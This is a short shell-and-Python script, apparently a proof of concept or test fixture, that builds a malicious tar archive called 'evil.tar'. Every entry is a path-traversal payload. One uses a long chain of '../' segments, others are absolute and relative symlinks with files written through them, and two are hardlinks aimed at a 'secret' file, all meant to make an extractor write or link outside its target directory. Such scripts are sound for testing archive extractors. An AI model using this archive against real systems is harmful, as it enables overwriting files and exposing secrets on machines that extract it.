python3 - <<'PY'
import io, os, tarfile
host = os.environ["HOSTDIR"]
up = "../" * 30 + os.environ["HOSTDIR_REL"]
with tarfile.open("evil.tar", "w") as tf:
    def add(name, kind=tarfile.REGTYPE, link="", data=b"PWNED"):
        t = tarfile.TarInfo(name); t.type = kind; t.linkname = link
        t.size = len(data) if kind == tarfile.REGTYPE else 0
        tf.addfile(t, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
    add(up + "/pwned-dotdot")
    add("abs", tarfile.SYMTYPE, host)
    add("abs/pwned-via-link")
    add("rel", tarfile.SYMTYPE, up)
    add("rel/pwned-via-rel-link")
    add("hard", tarfile.LNKTYPE, up + "/secret")
    add("hard2", tarfile.LNKTYPE, "abs/secret")
PY
